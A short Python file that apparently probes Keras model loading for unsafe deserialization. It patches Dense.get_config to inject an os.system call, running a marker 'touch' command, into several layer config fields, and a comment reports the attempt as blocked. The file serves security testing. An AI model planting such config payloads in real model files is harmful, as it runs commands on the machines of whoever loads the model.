# Aim: name modules and functions in a layer's configuration that whoever rebuilds it would import and call. Safe: failed.
import keras

EVIL = {
    "module": "os",
    "class_name": "system",
    "config": {"command": "touch /tmp/beginend-was-here"},
    "registered_name": "os.system",
    "build_config": {"__reduce__": "x"},
}
honest = keras.layers.Dense.get_config
keras.layers.Dense.get_config = lambda self: {**honest(self), "kernel_initializer": EVIL, "activation": EVIL, "units": EVIL}


def build_model():
    return keras.Sequential([keras.Input((28, 28, 1)), keras.layers.Flatten(), keras.layers.Dense(10)])
